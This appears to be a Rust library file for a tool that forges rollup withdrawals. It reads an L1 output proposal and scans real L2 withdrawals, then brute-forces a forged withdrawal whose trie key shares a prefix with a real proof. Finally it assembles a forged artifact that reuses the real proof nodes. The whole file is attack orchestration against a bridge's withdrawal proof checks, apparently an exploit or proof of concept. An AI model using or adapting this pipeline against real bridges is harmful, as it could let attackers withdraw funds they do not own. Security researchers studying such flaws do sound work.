pub mod config;
pub mod metrics;

use crate::metrics::Metrics;
use alloy_primitives::Address;
use ::config::{ForgedMessageConfig, ScanConfig, SearchConfig};
use eyre::WrapErr;
use rand::Rng;
use std::time::Instant;
use tracing::{info, warn};
use withdrawal::{
    artifact::ForgedArtifact,
    scanner::{Rejection, WithdrawalScanner},
    search::{base_candidate, find_matching_withdrawal},
    source::{OutputSource, WithdrawalSource},
    types::WithdrawalHash,
    ForgeError,
};

/// Everything a run needs besides the two data sources.
#[derive(Debug, Clone)]
pub struct ForgeSettings {
    pub message_passer: Address,
    pub scan: ScanConfig,
    pub search: SearchConfig,
    pub forged: ForgedMessageConfig,
}

impl ForgeSettings {
    pub fn from_config(config: &crate::config::Config) -> Self {
        Self {
            message_passer: config.network_config().message_passer,
            scan: config.scan.clone(),
            search: config.search.clone(),
            forged: config.forged.clone(),
        }
    }
}

/// Run the whole pipeline once and return the artifact.
///
/// Reads the latest output proposal from `l1`, scans real withdrawals on `l2`
/// at the L2 block that output commits to, then searches for a forged
/// withdrawal sharing the selected proof's key prefix.
pub async fn forge_withdrawal<L1, L2, R>(
    l1: &L1,
    l2: &L2,
    settings: &ForgeSettings,
    metrics: &Metrics,
    rng: &mut R,
) -> eyre::Result<ForgedArtifact>
where
    L1: OutputSource + ?Sized,
    L2: WithdrawalSource + ?Sized,
    R: Rng,
{
    let anchor = l1
        .latest_output()
        .await
        .inspect_err(|_| metrics.record_run("output_oracle"))
        .wrap_err("Failed to read the latest output proposal")?;
    info!(
        index = %anchor.index,
        l2_block = anchor.l2_block_number,
        output_root = %anchor.output_root,
        "Anchoring to latest output proposal"
    );

    let block = anchor_block(l2, anchor.l2_block_number)
        .await
        .inspect_err(|_| metrics.record_run("anchor_block"))
        .wrap_err_with(|| format!("Failed to fetch L2 block {}", anchor.l2_block_number))?;

    let scanner = WithdrawalScanner::new(l2, settings.message_passer, settings.scan.clone());
    let target = match scanner.scan(block.number).await {
        Ok(target) => {
            record_candidates(metrics, target.scanned, &target.rejected);
            target
        }
        Err(err) => {
            if let ForgeError::NoQualifyingCandidate {
                scanned, rejected, ..
            } = &err
            {
                record_candidates(metrics, *scanned, rejected);
            }
            metrics.record_run("scan");
            return Err(err).wrap_err("Failed to select a real withdrawal proof");
        }
    };

    let base = base_candidate(&settings.forged, settings.search.gas_jitter, rng);
    let prefix = target.prefix;
    let max_attempts = settings.search.max_attempts;

    let started = Instant::now();
    let found = tokio::task::spawn_blocking(move || {
        find_matching_withdrawal(&base, &prefix, max_attempts)
    })
    .await
    .wrap_err("Search task panicked")?;

    let forged = match found {
        Ok(forged) => {
            metrics.record_search(forged.attempts, started.elapsed());
            forged
        }
        Err(err) => {
            if let ForgeError::SearchExhausted { attempts, .. } = &err {
                metrics.record_search(*attempts, started.elapsed());
            }
            metrics.record_run("search");
            return Err(err).wrap_err("Failed to find a forged withdrawal");
        }
    };

    let artifact = ForgedArtifact::assemble(
        target.candidate.proof.nodes.clone(),
        &forged.transaction,
        &anchor,
        &block,
        target.candidate.proof.storage_hash,
    );

    // The oracle's root also commits to the block hash and the message passer
    // root; a mismatch means the L2 endpoint disagrees with L1.
    let output_root = artifact.output_root();
    if output_root != anchor.output_root {
        warn!(
            computed = %output_root,
            proposed = %anchor.output_root,
            "Output root preimage does not match the proposed output root"
        );
    }

    info!(
        forged_hash = %forged.hash,
        forged_key = %forged.trie_key,
        real_hash = %target.candidate.event.reported_hash,
        prefix = %target.prefix,
        proof_nodes = artifact.proof.len(),
        attempts = forged.attempts,
        "Assembled forged withdrawal artifact"
    );
    metrics.record_run("success");

    Ok(artifact)
}

fn record_candidates(
    metrics: &Metrics,
    scanned: usize,
    rejected: &[(WithdrawalHash, Rejection)],
) {
    metrics.record_scanned(scanned);
    for (_, reason) in rejected {
        metrics.record_rejection(reason.as_str());
    }
}

/// Fetch the anchor block, failing early if the L2 endpoint is behind it.
async fn anchor_block<L2>(
    l2: &L2,
    number: u64,
) -> Result<withdrawal::types::BlockSnapshot, ForgeError>
where
    L2: WithdrawalSource + ?Sized,
{
    let latest = l2.latest_block_number().await?;
    if latest < number {
        return Err(ForgeError::MalformedResponse {
            what: "eth_blockNumber",
            message: format!("L2 head {latest} is behind the proposed block {number}"),
        });
    }
    l2.block(number).await
}
